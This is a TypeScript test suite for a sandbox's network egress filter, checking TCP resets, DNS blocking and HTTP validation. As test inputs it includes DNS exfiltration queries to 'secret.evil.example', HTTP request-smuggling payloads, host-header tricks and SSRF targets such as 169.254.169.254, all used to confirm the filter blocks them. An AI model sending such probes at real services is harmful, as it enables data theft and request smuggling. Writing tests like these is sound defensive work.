/** The way out for real, without opened TLS: programs in a trapped namespace, upstreams on this host. Needs root. */
import { once } from 'node:events';
import { createServer as createHttpServer, type Server as HttpServer, type IncomingMessage } from 'node:http';
import { type AddressInfo, createServer, type Server, type Socket } from 'node:net';
import { afterEach, describe, expect, it } from 'vitest';
import { allowing, openTrapped, rule, type Trapped, type Zone } from '../../test/support/trapped.ts';
import type { NetworkGrant } from '../admission/network.ts';

let open: { close(): unknown }[] = [];

afterEach(async () => {
  for (const thing of open.reverse()) await thing.close();
  open = [];
});

async function trapped(grant: NetworkGrant, zone: Zone = {}): Promise<Trapped> {
  const made = await openTrapped(grant, zone);
  open.push({
    close: async () => {
      await made.close();
      expect(made.faults).toEqual([]);
    },
  });
  return made;
}

async function listening<T extends Server | HttpServer>(server: T): Promise<number> {
  const sockets = new Set<Socket>();
  server.on('connection', (socket: Socket) => {
    sockets.add(socket);
    socket.once('close', () => sockets.delete(socket));
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  open.push({
    close: () => {
      for (const socket of sockets) socket.destroy();
      server.close();
    },
  });
  return (server.address() as AddressInfo).port;
}

const portsOf = (port: number) => [{ from: port, to: port }];
const deny: NetworkGrant = { mode: 'deny' };

describe('a sandbox that may reach nothing', () => {
  it('NX-01, NX-02, NX-32: has every connection reset, v4 and v6, and each is recorded once', async () => {
    const { python, records } = await trapped(deny);
    const program = `
import socket
for family, to in ((socket.AF_INET, ("192.0.2.1", 22)), (socket.AF_INET6, ("2001:db8::1", 25)), (socket.AF_INET, ("198.18.0.1", 443))):
  s = socket.socket(family); s.settimeout(5); s.connect(to); s.send(b"\\0raw")
  try: print(s.recv(9))
  except ConnectionResetError: print("reset")`;
    expect(await python(program)).toBe('reset\nreset\nreset\n');
    await expect
      .poll(() => records('connection').map(({ address, port, code }) => [address, port, code]))
      .toEqual([
        ['192.0.2.1', 22, 'mode_deny'],
        ['2001:db8::1', 25, 'mode_deny'],
        ['198.18.0.1', 443, 'no_rule'],
      ]);
  });

  it('finds no name, and no question leaves', async () => {
    const { python, records, questions } = await trapped(deny, { 'a.example': ['192.0.2.1'] });
    const program = `
import socket
for name in ("a.example", "c2VjcmV0.evil.example"):
  try: socket.getaddrinfo(name, 443)
  except socket.gaierror as error: print(error.args[0])`;
    expect(await python(program)).toBe('-2\n-2\n');
    expect(questions).toEqual([]);
    expect(new Set(records('dns').map(({ host, verdict, code }) => `${host} ${verdict} ${code}`))).toEqual(
      new Set(['a.example deny mode_deny', 'c2VjcmV0.evil.example deny mode_deny'.toLowerCase()]),
    );
  });

  it('tells HTTP why, in words a model can read', async () => {
    const { run } = await trapped(deny);
    const { stdout } = await run(['curl', '-s', '-w', '%{http_code}', 'http://192.0.2.1/x']);
    const [body = '', status] = stdout.split('\n');
    expect(status).toBe('403');
    expect(JSON.parse(body)).toMatchObject({ code: 'mode_deny', rule: null, host: null });
    expect(Object.keys(JSON.parse(body))).toEqual(['code', 'rule', 'host', 'reason', 'next_step']);
  });

  it('has its datagrams refused at once, and told', async () => {
    const { python, records } = await trapped(deny);
    const program = `
import socket
try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"quic", ("192.0.2.1", 443))
except PermissionError: print("refused")`;
    expect(await python(program)).toBe('refused\n');
    await expect
      .poll(() => records('packet'))
      .toMatchObject([{ protocol: 'udp', address: '192.0.2.1', port: 443, verdict: 'deny', code: 'not_carried' }]);
  });

  it('asks any resolver it likes, over UDP and TCP, and is answered here', async () => {
    const { python, records } = await trapped(deny);
    const program = `
import socket, struct
q = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + b"\\6secret\\4evil\\7example\\0" + struct.pack(">2H", 16, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.sendto(q, ("192.0.2.53", 53)); print(s.recv(99)[3] & 15)
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.settimeout(5); s.sendto(q, ("2001:db8::53", 53)); print(s.recv(99)[3] & 15)
s = socket.create_connection(("192.0.2.53", 53), 5); s.send(struct.pack(">H", len(q)) + q); print(s.recv(99)[5] & 15)`;
    expect(await python(program)).toBe('3\n3\n3\n');
    expect(records('dns').map(({ host, protocol }) => `${host} ${protocol}`)).toEqual(
      Array(3).fill('secret.evil.example TXT'),
    );
  });
});

describe('a connection of raw bytes', () => {
  const echo = () => createServer({ allowHalfOpen: true }, (socket) => socket.pipe(socket));

  it('to a host that a rule allows passes both ways, and half-closes', async () => {
    const port = await listening(echo());
    const grant = allowing(rule('db', { hosts: ['db.example'], protocol: 'tcp', ports: portsOf(port) }));
    const { python, records, questions } = await trapped(grant, { 'db.example': ['127.0.0.1'] });
    const program = `
import socket
s = socket.create_connection(("db.example", ${port}), 5); s.sendall(b"hello" * 1000); s.shutdown(socket.SHUT_WR)
data = b""
while piece := s.recv(65536): data += piece
print(len(data))`;
    expect(await python(program)).toBe('5000\n');
    await expect
      .poll(() => records('connection'))
      .toMatchObject([
        {
          host: 'db.example',
          address: '127.0.0.1',
          port,
          rule: 'db',
          verdict: 'allow',
          upBytes: 5000,
          downBytes: 5000,
          protocol: 'raw',
          fault: null,
        },
      ]);
    expect(questions).toContain('db.example A');
  });

  it.each(['raw', 'GET / HTTP/1.0\r\n\r\n'])(
    'that is looked at first loses nothing when %j and its end come at once',
    async (text) => {
      const port = await listening(echo());
      const grant: NetworkGrant = { ...allowing(), mode: 'observe' } as NetworkGrant;
      const { python, records } = await trapped(grant, { 'seen.example': ['127.0.0.1'] });
      const program = `
import socket, time
for _ in range(20):
  s = socket.create_connection(("seen.example", ${port}), 5); s.sendall(${JSON.stringify(text)}.encode()); s.shutdown(socket.SHUT_WR)
  data = b""
  while piece := s.recv(65536): data += piece
  assert data != b"", "nothing came back"`;
      expect(await python(program)).toBe('');
      await expect.poll(() => records('connection').length).toBe(20);
      for (const { verdict } of records('connection')) expect(verdict).toBe('would-deny');
    },
  );

  it('hears a server that speaks first', async () => {
    const port = await listening(createServer((socket) => socket.end('220 ready\r\n')));
    const grant = allowing(rule('mail', { hosts: ['mail.example'], protocol: 'tcp', ports: portsOf(port) }));
    const { python } = await trapped(grant, { 'mail.example': ['127.0.0.1'] });
    expect(await python(`import socket; print(socket.create_connection(("mail.example", ${port}), 5).recv(99))`)).toBe(
      "b'220 ready\\r\\n'\n",
    );
  });

  it('carries a megabyte of every byte unchanged, at the pace of a slow reader', async () => {
    const port = await listening(echo());
    const grant = allowing(rule('db', { hosts: ['db.example'], protocol: 'tcp', ports: portsOf(port) }));
    const { python } = await trapped(grant, { 'db.example': ['127.0.0.1'] });
    const program = `
import socket, threading, time, hashlib
s = socket.create_connection(("db.example", ${port}), 20)
data = bytes(range(256)) * 16384
def send():
  s.sendall(data); s.shutdown(socket.SHUT_WR)
threading.Thread(target=send).start(); time.sleep(0.3)
got = b""
while piece := s.recv(4096): got += piece
print(got == data)`;
    expect(await python(program)).toBe('True\n');
  });

  it('NX-03: to another port of an allowed host is reset', async () => {
    const port = await listening(echo());
    const grant = allowing(rule('db', { hosts: ['db.example'], protocol: 'tcp', ports: portsOf(port + 1) }));
    const { python, records } = await trapped(grant, { 'db.example': ['127.0.0.1'] });
    const program = `
import socket
s = socket.create_connection(("db.example", ${port}), 5); s.send(b"\\0")
try: print(s.recv(9))
except ConnectionResetError: print("reset")`;
    expect(await python(program)).toBe('reset\n');
    await expect.poll(() => records('connection')).toMatchObject([{ code: 'wrong_port', rule: 'db', verdict: 'deny' }]);
  });

  it('NX-10: to a name that leads to a private address is not made', async () => {
    const port = await listening(echo());
    const grant: NetworkGrant = {
      mode: 'allow',
      phases: [],
      rules: [rule('db', { hosts: ['db.example'], protocol: 'tcp', ports: portsOf(port) })],
    };
    for (const addresses of [
      ['127.0.0.1'],
      ['192.0.2.1', '127.0.0.1'],
      ['169.254.169.254'],
      ['::1'],
      ['::ffff:127.0.0.1'],
    ]) {
      const { python, records } = await trapped(grant, { 'db.example': addresses });
      const program = `
import socket
try: s = socket.create_connection(("db.example", ${port}), 5); s.send(b"x"); print(s.recv(9))
except (ConnectionResetError, BrokenPipeError): print("reset")`;
      expect(await python(program)).toBe('reset\n');
      await expect.poll(() => records('connection')).toMatchObject([{ code: 'forbidden_address', verdict: 'deny' }]);
    }
  });

  it('that nobody answers is reset, and the record says why', async () => {
    const grant = allowing(rule('db', { hosts: ['db.example', 'gone.example'], protocol: 'tcp', ports: portsOf(1) }));
    const { python, records } = await trapped(grant, { 'db.example': ['127.0.0.1'] });
    const program = `
import socket
for name in ("db.example", "gone.example"):
  try: print(socket.create_connection((name, 1), 5).recv(9))
  except ConnectionResetError: print("reset")`;
    expect(await python(program)).toBe('reset\nreset\n');
    await expect
      .poll(() => records('connection').map(({ fault, verdict }) => [verdict, fault]))
      .toEqual([
        ['allow', 'ECONNREFUSED'],
        ['allow', 'the name has no address'],
      ]);
  });
});

describe('plain HTTP', () => {
  const seen: { method?: string | undefined; url?: string | undefined; rawHeaders: string[]; body: string }[] = [];

  async function upstream(answer?: (request: IncomingMessage, body: string) => [number, string]): Promise<number> {
    seen.length = 0;
    return listening(
      createHttpServer(async (request, response) => {
        const pieces: Buffer[] = [];
        for await (const piece of request) pieces.push(piece as Buffer);
        const body = Buffer.concat(pieces).toString();
        seen.push({ method: request.method, url: request.url, rawHeaders: request.rawHeaders, body });
        const [status, text] = answer?.(request, body) ?? [200, `you sent ${body.length} bytes to ${request.url}\n`];
        response.writeHead(status, { 'X-Kept': 'yes' }).end(text);
      }),
    );
  }

  const web = (port: number, changes: Parameters<typeof rule>[1] = {}): NetworkGrant =>
    allowing(rule('web', { hosts: ['web.example'], protocol: 'http', ports: portsOf(port), ...changes }));
  const zone: Zone = { 'web.example': ['127.0.0.1'] };

  /** Bytes by hand, and all that comes back. */
  const rawHttp = (port: number, text: string): string => `
import socket
s = socket.create_connection(("web.example", ${port}), 5); s.sendall(${JSON.stringify(text)}.encode("latin1"))
s.settimeout(5); data = b""
try:
  while piece := s.recv(65536): data += piece
except (ConnectionResetError, TimeoutError): pass
print(data.decode("latin1").replace("\\r", ""))`;

  it('passes with its headers, body and status, and each request is recorded', async () => {
    const port = await upstream(() => [201, 'made\n']);
    const { run, records } = await trapped(web(port), zone);
    const { stdout } = await run([
      'curl',
      '-si',
      '-H',
      'X-Mine: 1',
      '--data',
      'abc',
      `http://web.example:${port}/a/b?q=1`,
    ]);
    expect(stdout).toMatch(/^HTTP\/1.1 201 Created\r\nX-Kept: yes\r\n.*\r\n\r\nmade\n$/s);
    expect(seen).toMatchObject([{ method: 'POST', url: '/a/b?q=1', body: 'abc' }]);
    expect(seen[0]?.rawHeaders).toEqual(expect.arrayContaining(['Host', `web.example:${port}`, 'X-Mine', '1']));
    await expect
      .poll(() => records('request'))
      .toMatchObject([{ method: 'POST', path: '/a/b', status: 201, rule: 'web' }]);
    await expect.poll(() => records('connection')).toMatchObject([{ verdict: 'allow', host: 'web.example' }]);
  });

  it('keeps a connection for several requests, to the same upstream', async () => {
    const port = await upstream();
    const { run, records } = await trapped(web(port), zone);
    const url = `http://web.example:${port}/`;
    const { stdout } = await run(['curl', '-s', `${url}1`, `${url}2`, `${url}3`]);
    expect(stdout).toBe('you sent 0 bytes to /1\nyou sent 0 bytes to /2\nyou sent 0 bytes to /3\n');
    await expect.poll(() => records('request').length).toBe(3);
    await expect.poll(() => records('connection').length).toBe(1);
  });

  it('NX-17: for another host than the connection is refused with 421, also in a later request', async () => {
    const port = await upstream();
    const { python, records } = await trapped(web(port), zone);
    const request = (host: string) => `GET / HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
    const answer = await python(rawHttp(port, request(`web.example:${port}`) + request('evil.example')));
    expect(answer).toContain('you sent 0 bytes');
    expect(answer).toContain('HTTP/1.1 421');
    expect(seen).toHaveLength(1);
    expect(records('request').at(-1)).toMatchObject({ verdict: 'deny', code: 'host_mismatch' });
  });

  it.each([
    [
      'a length and chunks',
      'POST / HTTP/1.1\r\nHost: H\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
    ],
    ['two lengths', 'POST / HTTP/1.1\r\nHost: H\r\nContent-Length: 4\r\nContent-Length: 5\r\n\r\nabcde'],
    ['a vertical tab in the encoding', 'POST / HTTP/1.1\r\nHost: H\r\nTransfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n'],
    ['a space before the colon', 'POST / HTTP/1.1\r\nHost: H\r\nContent-Length : 4\r\n\r\nabcd'],
    ['a NUL in a header', 'GET / HTTP/1.1\r\nHost: H\r\nX: a\0b\r\n\r\n'],
    ['two hosts', 'GET / HTTP/1.1\r\nHost: H\r\nHost: evil.example\r\n\r\n'],
    ['no host', 'GET / HTTP/1.1\r\n\r\n'],
    ['an absolute target', 'GET http://evil.example/ HTTP/1.1\r\nHost: H\r\n\r\n'],
    ['CONNECT', 'CONNECT evil.example:443 HTTP/1.1\r\nHost: H\r\n\r\n'],
    [
      'h2c',
      'GET / HTTP/1.1\r\nHost: H\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n',
    ],
    ['the preface of HTTP/2', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'],
    ['a broken chunk', 'POST / HTTP/1.1\r\nHost: H\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n'],
  ])('NX-04, NX-21, NX-23: with %s is refused and nothing of it is passed on', async (_name, text) => {
    const port = await upstream();
    const { python } = await trapped(web(port), zone);
    const answer = await python(rawHttp(port, text.replaceAll(': H', `: web.example:${port}`)));
    expect(answer).toMatch(/^(HTTP\/1.1 (400|502|403).*)?\n$/s);
    expect(seen.filter(({ body, url }) => body !== '' || url !== '/')).toEqual([]);
    if (!text.includes('zz')) expect(seen).toEqual([]);
  });

  it.each([
    ['bare line feeds', 'GET / HTTP/1.1\nHost: H\n\nGET /second HTTP/1.1\nHost: H\n\n'],
    ['a folded header', 'GET / HTTP/1.1\r\nHost: H\r\nX: a\r\n Content-Length: 9\r\n\r\n'],
  ])('NX-21: with %s is refused, or passes as one request that has one reading', async (_name, text) => {
    const port = await upstream();
    const { python } = await trapped(web(port), zone);
    await python(
      rawHttp(
        port,
        text
          .replaceAll('H', `web.example:${port}`)
          .replaceAll(`web.example:${port}TTP`, 'HTTP')
          .replaceAll(`web.example:${port}ost`, 'Host'),
      ),
    );
    for (const { rawHeaders } of seen) expect(rawHeaders.join('\n')).not.toMatch(/[\r]|\n /);
  });

  it('streams what is sent as events, when it is sent', async () => {
    const port = await listening(
      createHttpServer((_request, response) => {
        response.writeHead(200, { 'content-type': 'text/event-stream' });
        let count = 0;
        const timer = setInterval(() => {
          count += 1;
          response.write(`data: ${count}\n\n`);
          if (count === 3) response.end();
          if (count === 3) clearInterval(timer);
        }, 150);
      }),
    );
    const { python } = await trapped(web(port), zone);
    const program = `
import time, urllib.request
answer = urllib.request.urlopen("http://web.example:${port}/", timeout=10)
times = []
for line in answer:
  if line.startswith(b"data"): times.append(time.time())
print([round(b - a, 1) >= 0.1 for a, b in zip(times, times[1:])])`;
    expect(await python(program)).toBe('[True, True]\n');
  });

  it('NX-22: does not hand on an answer to a question that was not asked', async () => {
    const answer = 'HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\none';
    const port = await listening(
      createServer((socket) => {
        socket.once('data', () => {
          socket.write(answer);
          setTimeout(() => socket.write('HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\npoison'), 100);
        });
        socket.on('error', () => undefined);
      }),
    );
    const { python } = await trapped(web(port), zone);
    const program = `
import http.client, time
c = http.client.HTTPConnection("web.example", ${port}, timeout=5)
c.request("GET", "/1"); print(c.getresponse().read()); time.sleep(0.5)
c.request("GET", "/2"); print(c.getresponse().read())`;
    expect(await python(program)).toBe("b'one'\nb'one'\n");
  });

  it('with a header of a megabyte is refused, with 10,000 requests at once cut off, and the next one is served', async () => {
    const port = await upstream();
    const { python, records } = await trapped(web(port), zone);
    const host = `Host: web.example:${port}\r\n`;
    const program = `
import socket
def send(text):
  s = socket.create_connection(("web.example", ${port}), 10); data = b""
  try:
    s.sendall(text)
    while piece := s.recv(65536): data += piece
  except (ConnectionResetError, BrokenPipeError, TimeoutError): pass
  return data
print(send(b"GET / HTTP/1.1\\r\\n${host.replace('\r\n', '\\r\\n')}X: " + b"a" * 1000000 + b"\\r\\n\\r\\n")[:12])
print(send(b"GET / HTTP/1.1\\r\\n${host.replace('\r\n', '\\r\\n')}\\r\\n" * 10000).count(b"HTTP/1.1 200") < 200)
print(send(b"GET / HTTP/1.1\\r\\n${host.replace('\r\n', '\\r\\n')}Connection: close\\r\\n\\r\\n")[:12])`;
    const [large, many, next] = (await python(program)).split('\n');
    expect(["b''", "b'HTTP/1.1 431'"]).toContain(large);
    expect([many, next]).toEqual(['True', "b'HTTP/1.1 200'"]);
    expect(records('request').some(({ code }) => code === 'too_many')).toBe(true);
  });

  it('answers 502 and says why when nobody is there', async () => {
    const port = await upstream();
    const { run } = await trapped(web(port + 1), zone);
    const { stdout } = await run(['curl', '-s', '-w', '%{http_code}', `http://web.example:${port + 1}/`]);
    expect(stdout).toContain('upstream_failed');
    expect(stdout).toMatch(/502$/);
  });

  it('NX-20: passes a redirect on, and judges where it leads like anything else', async () => {
    const port = await listening(
      createHttpServer((_request, response) => response.writeHead(302, { location: 'http://192.0.2.9/' }).end()),
    );
    const { run } = await trapped(web(port), zone);
    const { stdout } = await run(['curl', '-sL', '-w', '%{http_code}', `http://web.example:${port}/`]);
    expect(stdout).toMatch(/"code":"forbidden_address".*403$/s);
  });

  it('asks for "100 Continue" only after it was judged', async () => {
    const port = await upstream();
    const { python } = await trapped(web(port, { methods: ['GET'] }), zone);
    const text = `POST / HTTP/1.1\r\nHost: web.example:${port}\r\nExpect: 100-continue\r\nContent-Length: 3\r\n\r\n`;
    expect(await python(rawHttp(port, text))).toMatch(/^HTTP\/1.1 403/);
  });
});
